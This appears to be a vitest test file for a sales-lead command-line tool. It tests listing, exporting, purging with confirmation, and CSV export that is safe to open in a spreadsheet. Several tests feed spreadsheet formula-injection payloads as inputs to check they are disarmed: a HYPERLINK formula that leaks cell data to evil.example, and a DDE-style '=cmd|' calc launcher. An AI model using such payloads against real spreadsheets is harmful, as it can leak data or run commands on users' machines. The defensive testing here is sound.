import { readFileSync, statSync } from 'node:fs';
import { join } from 'node:path';
import fc from '../support/fast-check.ts';
import { expect, it } from 'vitest';
import { csvLine } from '../../src/cli/csv.ts';
import { formatTable } from '../../src/cli/table.ts';
import { startLeadsTool } from '../support/leads-tool.ts';
import { describeStores, leadRequest, newLead, open } from '../support/stores.ts';

describeStores('the operator’s tool', (makeStore) => {
  async function start(answer = false) {
    const leads = await open(await makeStore());
    return { ...leads, ...startLeadsTool({ answer, desk: leads.desk }) };
  }

  it('lists leads as a table and as JSON', async () => {
    const { store, leadsTool } = await start();
    await store.accept(newLead());
    await store.accept(newLead({ state: 'quarantined', score: 7, signals: ['manyLinks'] }));
    const table = await leadsTool('list');
    expect(table).toContain('花子 Müller');
    expect(table).toContain(
      'In all: 1 waiting, 0 delivered, 0 taken, 0 answered, 0 failed, 1 quarantined, 0 spam.',
    );
    expect(await leadsTool('list', '--state', 'quarantined')).toContain('manyLinks');
    const json = async (...args: string[]) =>
      JSON.parse(await leadsTool('list', '--json', ...args)) as unknown[];
    expect(await json('--state', 'quarantined')).toMatchObject([{ score: 7 }]);
    expect(await json('--limit', '1')).toHaveLength(1);
  });

  it('shows one lead with its message', async () => {
    const { store, desk, leadsTool } = await start();
    const accepted = await store.accept(newLead());
    const shown = await leadsTool('show', 'id' in accepted ? accepted.id : '');
    expect(shown).toContain(leadRequest.message);
    expect(shown).toMatch(/email +hanako@acme\.example/u);
    const [{ id } = { id: '' }] = await desk.list({}, { limit: 1 });
    expect(JSON.parse(await leadsTool('show', id, '--json'))).toMatchObject({
      id,
      state: 'waiting',
      request: leadRequest,
    });
  });

  it('releases and retries, and says when a lead is in another state', async () => {
    const { store, desk, leadsTool } = await start();
    const accepted = await store.accept(newLead({ state: 'quarantined' }));
    const id = 'id' in accepted ? accepted.id : '';
    await expect(leadsTool('retry', id)).rejects.toThrow('not failed or waiting');
    expect(await leadsTool('release', id)).toBe('1 lead is in line for delivery.');
    expect(await desk.counts()).toMatchObject({ waiting: 1, quarantined: 0 });
    expect(await leadsTool('retry', '--all')).toBe('1 lead is in line for delivery.');
    await expect(leadsTool('spam', id)).rejects.toThrow('not quarantined');
  });

  it('records who takes and answers leads, and takes it back', async () => {
    const { store, desk } = await open(await makeStore());
    const { leadsTool } = startLeadsTool({ desk });
    await store.accept(newLead());
    const [mail] = await store.outbox.claim('mail', 1, 60_000);
    if (!mail) throw new Error('a lead waits');
    const { id } = mail;
    await expect(leadsTool('take', id, '--by', 'Anna')).rejects.toThrow('not waiting or delivered');
    await store.outbox.settle(mail, { outcome: 'delivered' });
    await expect(leadsTool('take', id)).rejects.toThrow('Say who: --by <name>.');
    await expect(leadsTool('resend', id, '--by', 'Anna')).rejects.toThrow('Nobody is told');
    expect(await leadsTool('take', id, '--by', 'Anna')).toBe('1 lead is taken.');
    await expect(leadsTool('take', id, '--by', 'Ben')).rejects.toThrow('not waiting or delivered');
    expect(await leadsTool('list')).toMatch(/taken .* Anna$/mu);
    expect(await leadsTool('answer', id, '--by', 'Ben')).toBe('1 lead is answered.');
    expect(await leadsTool('show', id)).toMatch(/^answeredBy +Ben$/mu);
    expect(await leadsTool('export')).toMatch(
      /takenAt,takenBy,answeredAt,answeredBy\n.*,Anna,.*,Ben$/su,
    );
    expect(await leadsTool('reopen', id, '--by', 'Anna')).toBe(
      '1 lead is waiting for their answer.',
    );
    expect(await leadsTool('give-back', id, '--by', 'Anna')).toBe('1 lead is waiting to be taken.');
  });

  it('marks leads as spam, and releases them by name alone', async () => {
    const { store, desk, leadsTool } = await start();
    const accepted = await store.accept(newLead({ state: 'quarantined' }));
    const id = 'id' in accepted ? accepted.id : '';
    expect(await leadsTool('spam', id)).toBe('1 lead is marked as spam.');
    expect(await leadsTool('release', '--all')).toBe('0 leads are in line for delivery.');
    expect(await leadsTool('release', id)).toBe('1 lead is in line for delivery.');
    expect(await desk.counts()).toMatchObject({ waiting: 1, spam: 0 });
  });

  it('exports where visits came from, in columns that are the same for all leads', async () => {
    const { store, leadsTool } = await start();
    const source = {
      referrer: 'https://news.example/',
      utmSource: '=cmd()',
      utmCampaign: 'autumn',
    };
    await store.accept(newLead({ request: { ...leadRequest, entryPage: '/projects', ...source } }));
    const [head = '', ...lines] = (await leadsTool('export')).split('\n');
    expect(head).toContain(
      ',page,entryPage,referrer,utmSource,utmMedium,utmCampaign,utmTerm,utmContent,attempts,',
    );
    expect(lines.join('\n')).toContain(`,/,/projects,https://news.example/,"'=cmd()",,autumn,,,0,`);
  });

  it('exports every lead, safe to open in a spreadsheet', async () => {
    const { store, leadsTool } = await start();
    await store.accept(newLead({ request: { ...leadRequest, company: '=HYPERLINK("x")' } }));
    await store.accept(newLead());
    const csv = await leadsTool('export');
    expect(csv).toContain(`,"'=HYPERLINK(""x"")",`);
    expect(csv.startsWith('\uFEFFid,state,receivedAt,')).toBe(true);
    const lines = (await leadsTool('export', '--json')).split('\n');
    expect(lines.map((line) => (JSON.parse(line) as { message: string }).message)).toEqual([
      leadRequest.message,
      leadRequest.message,
    ]);
  });

  it('writes what it exports into a file that the operator alone can read', async () => {
    const { store, leadsTool, folder } = await start();
    await store.accept(newLead());
    const printed = await leadsTool('export');
    expect(await leadsTool('export', 'leads.csv')).toBe('1 lead is in leads.csv.');
    const file = join(folder, 'leads.csv');
    expect(readFileSync(file, 'utf8')).toBe(`${printed}\n`);
    expect(statSync(file).mode & 0o777).toBe(0o600);
    await expect(leadsTool('export', 'a', 'b')).rejects.toThrow('Name one file.');
    await expect(leadsTool('export', 'absent/leads.csv')).rejects.toThrow(
      /^\S+leads\.csv can't be written: ENOENT/u,
    );
  });

  it('mails a delivered lead once more, and no other', async () => {
    const { store, desk, leadsTool } = await start();
    await store.accept(newLead());
    const [lead] = await store.outbox.claim('mail', 1, 60_000);
    if (!lead) throw new Error('a lead was accepted');
    await expect(leadsTool('resend', lead.id)).rejects.toThrow('not delivered');
    await store.outbox.settle(lead, { outcome: 'delivered' });
    await expect(leadsTool('resend', '--all')).rejects.toThrow('by their ids.');
    expect(await leadsTool('resend', lead.id)).toBe('1 lead is in line for delivery.');
    expect(await desk.counts()).toMatchObject({ waiting: 1, delivered: 0 });
    expect(await store.outbox.claim('mail', 1, 60_000)).toMatchObject([
      { id: lead.id, sentTo: [] },
    ]);
  });

  it('knows a lead by as many characters of its id as tell it apart', async () => {
    const { store, desk, leadsTool } = await start();
    await store.accept(newLead());
    await store.accept(newLead());
    const [newest, oldest] = (await desk.list({}, { limit: 2 })).map(({ id }) => id);
    // Version 7: both begin with their time.
    const apart = Array.from(newest ?? '').findIndex((digit, i) => digit !== oldest?.[i]);
    const prefix = (newest ?? '').slice(0, apart + 1);
    expect(await leadsTool('show', prefix.toUpperCase())).toContain(newest);
    await expect(leadsTool('show', prefix.slice(0, 5))).rejects.toThrow('several leads');
    await expect(leadsTool('show', 'ffff')).rejects.toThrow('There is no lead ffff');
    await expect(leadsTool('show', 'fff')).rejects.toThrow('not the id');
    expect(await leadsTool('purge', prefix, '--yes')).toBe('1 lead was erased.');
    expect((await desk.list({}, { limit: 2 })).map(({ id }) => id)).toEqual([oldest]);
  });

  it('asks before it erases', async () => {
    const refused = await start(false);
    await refused.store.accept(newLead());
    expect(await refused.leadsTool('purge', '--state', 'waiting')).toBe('Nothing was erased.');
    expect(refused.questions).toEqual(['Erase waiting leads for good?']);
    expect(await refused.desk.counts()).toMatchObject({ waiting: 1 });

    expect(await refused.leadsTool('purge', '--before', '2020-01-01', '--yes')).toContain(
      '0 leads',
    );
    expect(await refused.leadsTool('purge', '--state', 'waiting', '--yes')).toContain('1 lead was');
    expect(await refused.desk.counts()).toMatchObject({ waiting: 0 });
  });

  it('erases by day alone what is over, and no lead that nobody was mailed', async () => {
    const { store, desk, leadsTool, questions } = await start(true);
    for (const state of ['waiting', 'quarantined'] as const) await store.accept(newLead({ state }));
    await store.accept(newLead());
    const [delivered] = await store.outbox.claim('mail', 1, 60_000);
    if (!delivered) throw new Error('three leads were accepted');
    await store.outbox.settle(delivered, { outcome: 'delivered' });
    const told = await leadsTool('purge', '--before', '2100-01-01');
    expect(questions).toEqual([
      'Erase delivered and taken and answered and spam leads received before 2100-01-01 for good?',
    ]);
    expect(told).toMatch(/^1 lead was erased\.\nOthers are kept: name them by their --state/u);
    expect(await desk.counts()).toMatchObject({ waiting: 1, quarantined: 1, delivered: 0 });
  });

  it('erases in short transactions, between which visitors are let in', async () => {
    const { store, leadsTool } = await start(true);
    await Promise.all(Array.from({ length: 1_000 }, () => store.accept(newLead())));
    const order: string[] = [];
    const erasing = leadsTool('purge', '--state', 'waiting', '--yes');
    await Promise.all([
      erasing.then(() => order.push('erased')),
      store.accept(newLead({ state: 'quarantined' })).then(() => order.push('accepted')),
    ]);
    expect(order).toEqual(['accepted', 'erased']);
    expect(await erasing).toBe('1000 leads were erased.');
  });

  it('erases what was confirmed, and nothing beside it', async () => {
    const { store, desk, leadsTool, questions } = await start(true);
    const [first] = await Promise.all([store.accept(newLead()), store.accept(newLead())]);
    const id = 'id' in first ? first.id : '';
    expect(await leadsTool('purge', id, '--before', '2100-01-01')).toBe('1 lead was erased.');
    expect(questions).toEqual([`Erase leads ${id} received before 2100-01-01 for good?`]);
    const left = await desk.list({}, { limit: 10 });
    expect(left.map((lead) => lead.id)).not.toContain(id);
    expect(left).toHaveLength(1);
  });

  it('exports no cell that a spreadsheet would run, whatever was typed', async () => {
    const { store, leadsTool } = await start();
    const formula = `=HYPERLINK("https://evil.example?"&A1,"x")\n+1`;
    const typed = [
      'firstName',
      'lastName',
      'email',
      'phone',
      'company',
      'country',
      'message',
      'page',
    ];
    const request = {
      ...leadRequest,
      ...Object.fromEntries(typed.map((field) => [field, formula])),
    };
    await store.accept(newLead({ request }));
    const csv = await leadsTool('export');
    const disarmed = `,${csvLine([formula])}`;
    expect(disarmed).toMatch(/^,"'/u);
    expect(csv.split(disarmed)).toHaveLength(typed.length + 1);
  });

  it.each([
    [['frobnicate'], 'no command'],
    [['constructor'], 'no command'],
    [['list', '--state', 'lost'], 'not a state'],
    [['list', '--limit', '-1'], ''],
    [['list', '--verbose'], 'verbose'],
    [['show'], 'Name one lead'],
    [['show', 'x'], 'not the id'],
    [['show', '01a1fbc4-ad68-7e00-b445-a565ae40a274'], 'There is no lead'],
    [['retry'], '--all'],
    [['purge'], 'which leads'],
    [['purge', '--before', 'yesterday'], 'not a day'],
  ])('explains what is wrong with %o', async (args, message) => {
    const { leadsTool } = await start();
    await expect(leadsTool(...args)).rejects.toMatchObject({
      name: 'UsageError',
      message: expect.stringContaining(message) as string,
    });
  });
});

it.each([
  ['list', ['--state', '--limit', '--json']],
  ['show', ['<id>', '--json']],
  ['retry', ['<id>', '--all']],
  ['release', ['<id>', '--all']],
  ['export', ['<file>', '--state', '--json']],
  ['resend', ['<id>']],
  ['purge', ['<id>', '--state', '--before', '--yes']],
  ['backup', ['<folder>', '--list', '--json']],
  ['restore', ['<file>', '--yes', '--force']],
  ['test-mail', ['<address>']],
])('explains %s and its options', async (name, options) => {
  const { leadsTool } = startLeadsTool({});
  const explained = await leadsTool(name, '--help');
  expect(explained).toContain(`npm run leads -- ${name}`);
  for (const option of options) expect(explained).toContain(option);
  const [, usage = ''] = explained.split(`npm run leads -- `);
  for (const help of [await leadsTool(), await leadsTool('help'), await leadsTool('--help')]) {
    expect(help).toContain(`  ${usage}`);
  }
});

it('disarms and quotes any cell so that it reads back as it was', () => {
  const cell = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.stringMatching(/^[=+\-@\t\r"',;\n＝]{1,6}$/u),
  );
  fc.assert(
    fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
      const read = [...`,${csvLine(cells)}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/gu)].map(
        ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
      );
      expect(read.filter((text) => /^[=+\-@\t\r]/u.test(text))).toEqual([]);
      const armed = (text: string) => text.replace(/(^|[;\n\r])'/gu, '$1');
      expect(read.map(armed)).toEqual(cells.map(armed));
    }),
  );
});

it.each(['=1+1', '+49', '-1', '@SUM(A1)', '\t=1', '＝1'])('disarms the cell %s', (text) => {
  expect(csvLine([text])).toBe(`"'${text}"`);
});

it('disarms what begins a cell where the separator is a semicolon', () => {
  expect(csvLine(["x;=cmd|'/C calc'!A0;y"])).toBe(`"x;'=cmd|'/C calc'!A0;y"`);
  expect(csvLine(['Hello;\n =1+1'])).toBe(`"Hello;\n' =1+1"`);
});

it('lines columns up, also in wide scripts', () => {
  const lines = formatTable(
    ['NAME', 'X'],
    [
      ['山田', '1'],
      ['Ann', '2'],
      ['x'.repeat(99), '3'],
    ],
  ).split('\n');
  expect(lines).toEqual([
    `NAME${' '.repeat(36)}  X`,
    // Two columns of a terminal each.
    `山田${' '.repeat(36)}  1`,
    `Ann${' '.repeat(37)}  2`,
    `${'x'.repeat(39)}…  3`,
  ]);
});
